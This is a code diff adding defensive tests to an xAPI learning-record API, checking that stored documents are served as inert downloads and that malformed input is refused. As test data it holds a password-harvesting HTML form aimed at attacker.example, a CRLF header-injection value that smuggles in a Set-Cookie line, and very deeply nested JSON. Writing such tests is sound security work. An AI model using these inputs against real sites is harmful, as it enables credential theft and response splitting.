@@ -109,3 +109,92 @@ describe('activities and agents', () => {
     expect((await api.get('/agents')).status).toBe(400)
   })
 })
+
+describe('documents are data, never pages (DECISIONS §13.7)', () => {
+  const NEVER_A_PAGE = {
+    'content-disposition': 'attachment',
+    'x-content-type-options': 'nosniff',
+    'content-security-policy': "sandbox; default-src 'none'",
+  }
+  const page = '<form action="https://attacker.example/login"><input name="password"></form>'
+
+  it('answers every document, and every list of ids, as a download that runs nothing', async () => {
+    const who = agent()
+    const activity = activityId()
+    const resources = [
+      `/activities/state${query({ activityId: activity, agent: who, stateId: 'page' })}`,
+      `/activities/profile${query({ activityId: activity, profileId: 'page' })}`,
+      `/agents/profile${query({ agent: who, profileId: 'page' })}`,
+    ]
+    for (const at of resources) {
+      expect((await api.put(at, page, { 'content-type': 'text/html', 'if-none-match': '*' })).status).toBe(204)
+      const got = await api.get(at)
+      expect(got.text).toBe(page)
+      expect(got.headers).toMatchObject({ ...NEVER_A_PAGE, 'content-type': expect.stringMatching(/^text\/html/) })
+      expect((await api.head(at)).headers).toMatchObject(NEVER_A_PAGE)
+      const list = at.replace(/&(stateId|profileId)=page/, '')
+      expect((await api.get(list)).headers).toMatchObject(NEVER_A_PAGE)
+    }
+  })
+
+  it('answers the same through the alternate request syntax, as a cross-site form would reach it', async () => {
+    const who = agent()
+    const scope = { activityId: activityId(), agent: who, stateId: 'page' }
+    expect((await api.put(`/activities/state${query(scope)}`, page, { 'content-type': 'text/html' })).status).toBe(204)
+    const credential = await createCredential(org)
+    const form = new URLSearchParams({
+      ...Object.fromEntries(new URLSearchParams(query(scope).slice(1))),
+      Authorization: `Basic ${Buffer.from(`${credential.key}:${credential.secret}`).toString('base64')}`,
+      'X-Experience-API-Version': '1.0.3',
+    })
+    const res = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/learn/xapi/activities/state?method=GET',
+      headers: { 'content-type': 'application/x-www-form-urlencoded', origin: 'https://attacker.example' },
+      payload: form.toString(),
+    })
+    expect(res.statusCode).toBe(200)
+    expect(res.body).toBe(page)
+    expect(res.headers).toMatchObject(NEVER_A_PAGE)
+  })
+
+  it('refuses a Content-Type form field no header can hold, so nothing stored breaks the answer', async () => {
+    const credential = await createCredential(org)
+    const scope = { activityId: activityId(), agent: agent(), stateId: 'split' }
+    const form = new URLSearchParams({
+      ...Object.fromEntries(new URLSearchParams(query(scope).slice(1))),
+      Authorization: `Basic ${Buffer.from(`${credential.key}:${credential.secret}`).toString('base64')}`,
+      'X-Experience-API-Version': '1.0.3',
+      'Content-Type': 'text/html\r\nSet-Cookie: a=b',
+      content: page,
+    })
+    const res = await t.app.inject({
+      method: 'POST',
+      url: '/api/v1/learn/xapi/activities/state?method=PUT',
+      headers: { 'content-type': 'application/x-www-form-urlencoded' },
+      payload: form.toString(),
+    })
+    expect(res.statusCode).toBe(400)
+    expect((await api.get(`/activities/state${query(scope)}`)).status).toBe(404)
+  })
+})
+
+describe('JSON documents nested too deep', () => {
+  const deep = (depth: number) => `${'{"a":'.repeat(depth)}1${'}'.repeat(depth)}`
+  const json = { 'content-type': 'application/json' }
+
+  it('stores and merges 64 levels, and refuses 65 and 5,000 with a 400 in PUT and in a merge', async () => {
+    const scope = { activityId: activityId(), agent: agent() }
+    const at = (stateId: string) => `/activities/state${query({ ...scope, stateId })}`
+    expect((await api.put(at('ok'), deep(64), json)).status).toBe(204)
+    expect((await api.post(at('ok'), `{"b":${deep(63)}}`, json)).status).toBe(204)
+    for (const depth of [65, 5000]) {
+      const put = await api.put(at(`deep-${depth}`), deep(depth), json)
+      expect(put.body).toEqual({ error: true, message: 'The document nests objects and arrays deeper than 64' })
+      expect((await api.post(at('ok'), deep(depth), json)).status).toBe(400)
+      expect((await api.get(at(`deep-${depth}`))).status).toBe(404)
+    }
+    // The same bytes as another media type are opaque data, stored as they came.
+    expect((await api.put(at('opaque'), deep(5000), { 'content-type': 'application/octet-stream' })).status).toBe(204)
+  })
+})
